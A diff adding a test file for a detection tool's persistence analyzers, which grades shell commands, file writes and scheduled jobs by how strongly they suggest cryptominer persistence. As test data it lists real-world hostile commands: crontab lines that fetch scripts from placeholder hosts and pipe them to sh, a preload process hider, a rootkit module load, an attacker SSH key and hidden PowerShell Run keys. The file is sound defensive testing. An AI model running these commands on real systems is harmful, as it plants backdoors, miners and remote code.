@@ -1,0 +1,257 @@
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import fc from 'fast-check';
+import { persistenceAnalyzers } from '#shared/analyzers/persistence/analyzers.ts';
+import { CLASS, type Event, type FileActivity, type Process } from '#shared/model/event.ts';
+import type { Verdict } from '#shared/model/indicator.ts';
+import { EMPTY_WATCH_LIST } from '#shared/model/intel.ts';
+import { INTEL, launch, split } from '../miner/fixture.ts';
+
+const ANALYZERS = persistenceAnalyzers({ programs: () => ['xmrig', 'kinsing', 'kdevtmpfsi'] });
+
+const decide = (event: Event): readonly Verdict[] =>
+  ANALYZERS.filter((one) => one.classes.includes(event.class)).flatMap((one) =>
+    one.decide(event, INTEL, EMPTY_WATCH_LIST),
+  );
+
+const worst = (event: Event): string => {
+  const strengths = decide(event).map(({ strength }) => strength);
+  return ['strong', 'weak', 'note'].find((one) => strengths.some((strength) => strength === one)) ?? '-';
+};
+
+const shell = (script: string, more: Partial<Process> = {}): Event => launch(['sh', '-c', script], more);
+const file = (
+  path: string,
+  executable: string,
+  activity: FileActivity['activity'] = 'create',
+  more: Partial<FileActivity> = {},
+): Event => ({
+  class: CLASS.file,
+  time: 0,
+  claims: {},
+  raw: {},
+  id: 'test',
+  source: 'test',
+  activity,
+  path,
+  actor: { executable },
+  ...more,
+});
+
+/** Commands, and the strongest that persistence detections give them. */
+const COMMANDS: readonly (readonly [string, string])[] = [
+  // Downloads piped to a shell, as Kinsing, 8220, Skidmap and Sysrv put them into crontabs.
+  [
+    '(crontab -l; echo "* * * * * wget -q -O - http://198.51.100.9/unk.sh | sh > /dev/null 2>&1") | crontab -',
+    'strong',
+  ],
+  [
+    'echo "*/10 * * * * root (curl -s http://198.51.100.9/xms || wget -q -O - http://198.51.100.9/xms) | bash -sh" >> /etc/cron.d/root',
+    'strong',
+  ],
+  ['echo "*/1 * * * * curl -fsSL http://pm.example.com/pm.sh | sh" > /var/spool/cron/root', 'strong'],
+  ['echo "@reboot /tmp/.x/run" | crontab -', 'strong'],
+  ['echo "21 */2 * * * sh /dev/shm/update.sh >/dev/null 2>&1" | crontab -', 'strong'],
+  ['echo "* * * * * echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC45L3ggfCBzaA== | base64 -d | sh" | crontab -', 'strong'],
+  ['printf "0 * * * * root /opt/.cache/xmrig -o pool.example.com:3333\n" > /host/etc/cron.d/update', 'strong'],
+  // Units.
+  [
+    'printf "[Service]\nExecStart=/var/tmp/.sys/kthreadd --donate-level 1\n" > /etc/systemd/system/kthreadd.service',
+    'strong',
+  ],
+  ['mv /tmp/moneroocean_miner.service /etc/systemd/system/', 'strong'],
+  ['systemctl enable c3pool_miner.service', 'strong'],
+  ['systemctl enable --now web-backend', 'weak'],
+  ['systemd-run --on-calendar=hourly /dev/shm/.x', 'strong'],
+  // rc files, profiles, preload, keys.
+  ['echo "/tmp/.perf.c &" >> /etc/rc.local', 'strong'],
+  ['echo "nohup /dev/shm/x &" >> /etc/rc.common', 'strong'],
+  ['echo "curl -s http://198.51.100.9/a | bash" >> ~/.bashrc', 'strong'],
+  ['echo /usr/local/lib/libprocesshider.so >> /etc/ld.so.preload', 'strong'],
+  ['echo "ssh-rsa AAAAB3NzaC1yc2E mdrfckr" >> ~/.ssh/authorized_keys', 'strong'],
+  ['echo "ssh-rsa AAAAB3NzaC1yc2E ops@example.com" >> ~/.ssh/authorized_keys', 'weak'],
+  ['cp /tmp/a.sh /etc/cron.hourly/', 'strong'],
+  ['curl -o /etc/cron.d/x http://198.51.100.9/c', 'strong'],
+  ["sed -i '$ a */5 * * * * root curl http://198.51.100.9/x.sh | sh' /etc/crontab", 'strong'],
+  // Protected files, modules, replaced tools, containers, at.
+  ['chattr -R +i /var/spool/cron', 'strong'],
+  ['chattr +ai /root/.ssh/authorized_keys', 'strong'],
+  ['insmod /tmp/diamorphine.ko', 'strong'],
+  ['mv /usr/bin/wget /usr/bin/wge', 'strong'],
+  ['docker run -d --restart=always example.com/a/b -o stratum+tcp://pool.example.com:3333', 'strong'],
+  ['echo "curl http://198.51.100.9/x | sh" | at now + 1 minute', 'strong'],
+  ['update-rc.d pwnrig defaults', 'strong'],
+  // Windows.
+  ['schtasks /create /sc minute /mo 1 /tn Update /tr "C:\\Users\\Public\\xmrig.exe" /ru System /f', 'strong'],
+  [
+    'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d "powershell -w hidden -enc SQBFAFgAIAAoAE4A" /f',
+    'strong',
+  ],
+  ['sc create WinUpd binPath= "C:\\ProgramData\\svc.exe" start= auto', 'strong'],
+  ['schtasks /create /sc daily /tn Backup /tr "C:\\Tools\\backup.exe"', 'weak'],
+  // What shares their words.
+  ['crontab -l', '-'],
+  ['crontab -r', 'note'],
+  ["crontab -l | sed '/kinsing/d' | crontab -", 'note'],
+  ['crontab -e', 'weak'],
+  ['echo "30 3 * * * root certbot -q renew" > /etc/cron.d/certbot', 'note'],
+  [
+    '(crontab -l; echo "8 0 * * * /root/.acme.sh/acme.sh --cron --home /root/.acme.sh > /dev/null") | crontab -',
+    'note',
+  ],
+  ['echo "0 4 * * * curl -fsS https://hc-ping.example.com/uuid" | crontab -', 'note'],
+  ['cat /etc/crontab', '-'],
+  ['grep -r curl /etc/cron.d', '-'],
+  ['rm /etc/cron.d/root', '-'],
+  ['systemctl status kubelet', '-'],
+  ['systemctl restart nginx', '-'],
+  ['echo "export PATH=$PATH:/opt/bin" >> ~/.bashrc', 'note'],
+  ['chattr +i /etc/resolv.conf', '-'],
+  ['chattr -i /etc/crontab', '-'],
+  ['modprobe nfs', '-'],
+  ['docker run -d --restart=always nginx:1', '-'],
+  ['mv /usr/bin/foo /usr/bin/bar', '-'],
+  ['at -l', '-'],
+  ['schtasks /query', '-'],
+];
+
+describe('commands', () => {
+  for (const [line, expected] of COMMANDS)
+    test(`${expected}: ${line}`, () => assert.equal(worst(shell(line)), expected));
+
+  test('the same commands as exact arguments', () => {
+    assert.equal(worst(launch(split('systemctl enable moneroocean_miner.service'))), 'strong');
+    assert.equal(worst(launch(split('chattr +ia /etc/ld.so.preload'))), 'strong');
+    assert.equal(worst(launch(split('tee -a /root/.ssh/authorized_keys'))), 'weak');
+  });
+
+  test('an attempt that failed is weak', () => {
+    const event = launch(['insmod', '/tmp/x.ko']);
+    assert.equal(worst({ ...event, success: false } as Event), 'weak');
+  });
+});
+
+/** Files, who wrote them, and what that is worth where the text is unseen. */
+const FILES: readonly (readonly [string, string, string])[] = [
+  ['/etc/cron.d/sync', '/usr/bin/dash', 'strong'],
+  ['/etc/crontab', '/usr/bin/python3', 'strong'],
+  ['/var/spool/cron/root', '/usr/bin/redis-server', 'strong'],
+  ['/var/spool/cron/crontabs/tmp.Ab3xYz', '/usr/bin/crontab', 'weak'],
+  ['/var/spool/cron/#tmp.host.XXXXabcdef', '/usr/bin/crontab', 'weak'],
+  ['/var/spool/cron/crontabs/root', '/usr/bin/crontab', 'weak'],
+  ['/var/spool/cron/crontabs/root', '/tmp/crontab', 'strong'],
+  ['/host/etc/cron.d/x', '/usr/bin/sh', 'strong'],
+  ['/proc/1/root/etc/cron.d/x', '/usr/bin/sh', 'strong'],
+  ['/etc/systemd/system/web.service', '/usr/bin/bash', 'strong'],
+  ['/etc/systemd/system/multi-user.target.wants/web.service', '/usr/bin/systemctl', 'weak'],
+  ['/etc/systemd/system/multi-user.target.wants/c3pool_miner.service', '/usr/bin/systemctl', 'strong'],
+  ['/etc/ld.so.preload', '/usr/bin/bash', 'strong'],
+  ['/etc/rc.local', '/usr/bin/vim', 'strong'],
+  ['/etc/init.d/pwnrig', '/usr/bin/bash', 'strong'],
+  ['/root/.ssh/authorized_keys', '/usr/bin/bash', 'weak'],
+  ['/root/.ssh/authorized_keys', '/dev/shm/x', 'strong'],
+  ['/home/ec2-user/.bashrc', '/usr/bin/bash', 'weak'],
+  ['/etc/udev/rules.d/99-a.rules', '/usr/bin/bash', 'weak'],
+  ['/etc/passwd', '/usr/sbin/useradd', 'note'],
+  ['/run/systemd/transient/run-1.service', '/usr/lib/systemd/systemd', '-'],
+  ['/var/spool/anacron/cron.daily', '/usr/sbin/anacron', '-'],
+  ['/var/log/cron', '/usr/sbin/crond', '-'],
+  ['/home/a/cron.txt', '/usr/bin/vim', '-'],
+];
+
+describe('files', () => {
+  for (const [path, executable, expected] of FILES)
+    test(`${expected}: ${executable} writes ${path}`, () => assert.equal(worst(file(path, executable)), expected));
+
+  test('reads and deletes are nothing, a watch that fired is a write', () => {
+    assert.equal(worst(file('/etc/crontab', '/usr/bin/cat', 'read')), '-');
+    assert.equal(worst(file('/etc/crontab', '/usr/bin/rm', 'delete')), '-');
+    assert.equal(worst(file('/etc/crontab', '/usr/bin/sh', 'unknown')), 'strong');
+  });
+
+  test('the path is said without the mount that a container saw it under', () => {
+    const [verdict] = decide(file('/host/etc/cron.d/x', '/usr/bin/sh'));
+    assert.ok(verdict?.artifacts.includes('path:/etc/cron.d/x'));
+  });
+});
+
+describe('jobs', () => {
+  const job = (name: string, command?: string): Event => ({
+    class: CLASS.scheduledJob,
+    time: 0,
+    claims: {},
+    raw: {},
+    id: 'test',
+    source: 'test',
+    activity: 'start',
+    scheduler: 'systemd',
+    name,
+    ...(command === undefined ? {} : { command }),
+    actor: {},
+  });
+  for (const [name, command, expected] of [
+    ['moneroocean_miner', undefined, 'strong'],
+    ['xmrig', undefined, 'strong'],
+    ['pwnrig.service', undefined, 'strong'],
+    ['backup', 'curl http://198.51.100.9/x | sh', 'strong'],
+    ['sshd', undefined, '-'],
+    ['docker', undefined, '-'],
+    ['backup', '/usr/local/bin/backup.sh', '-'],
+  ] as const)
+    test(`${expected}: ${name} ${command ?? ''}`, () => assert.equal(worst(job(name, command)), expected));
+});
+
+test('names the command, its address and its file, so that evidence can link', () => {
+  const artifacts = decide(
+    shell('echo "* * * * * curl -o /tmp/.a http://198.51.100.9/a && /tmp/.a" | crontab -'),
+  ).flatMap((one) => one.artifacts);
+  for (const expected of ['url:http://198.51.100.9/a', 'path:/tmp/.a'] as const)
+    assert.ok(artifacts.includes(expected), expected);
+  assert.ok(artifacts.some((one) => one.startsWith('cmd:curl -o /tmp/.a')));
+});
+
+test('every positive holds a needle', () => {
+  const texts = [
+    ...COMMANDS.filter(([, expected]) => expected !== '-').map(([line]) => line),
+    ...FILES.filter(([, , expected]) => expected !== '-').map(([path]) => path),
+  ];
+  const needles = ANALYZERS.flatMap((one) => one.needles ?? []);
+  for (const text of texts)
+    assert.ok(
+      needles.some((needle) => text.toLowerCase().includes(needle)),
+      text,
+    );
+});
+
+test('never throws', () => {
+  const pieces = fc.constantFrom(
+    'crontab',
+    '-',
+    'echo',
+    '"',
+    "'",
+    '|',
+    '>>',
+    '/etc/cron.d/',
+    '@reboot',
+    '* * * * *',
+    'curl',
+    '$(',
+    ')',
+    '[Service]\nExecStart=',
+    'schtasks /create /tr',
+    '\0',
+    '../',
+    'sed -i',
+    's/a/b/',
+    'chattr +i',
+    'é',
+  );
+  fc.assert(
+    fc.property(fc.array(pieces, { maxLength: 24 }), (words) => {
+      decide(shell(words.join(' ')));
+      decide(launch(words));
+      decide(file(words.join(''), words.join('/')));
+    }),
+  );
+});
